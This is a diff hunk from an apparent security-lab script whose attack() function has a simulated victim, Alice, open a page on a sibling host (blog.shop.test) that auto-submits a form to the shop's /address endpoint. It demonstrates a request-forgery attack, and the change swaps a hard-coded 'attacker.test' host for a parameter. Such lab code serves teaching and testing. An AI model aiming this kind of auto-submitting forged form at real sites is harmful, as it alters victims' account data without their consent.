@@ -34,7 +34,7 @@ def attack(lab: Lab) -> str:
         alice.send("/address", {"address": "7 Alice Road"})
         print("Alice has entered her address: 7 Alice Road.")
         with lab.browser(alice) as page:
-            page.goto(evil.page(PAGE.format(url=shop.url)).replace("attacker.test", "blog.shop.test"))
+            page.goto(evil.page(PAGE.format(url=shop.url), "blog.shop.test"))
             print("She opens a page of blog.shop.test, which has a form and sends it at once.")
             page.wait_for_url(f"{shop.url}/address")
             print(f"The browser is now at {page.url}")
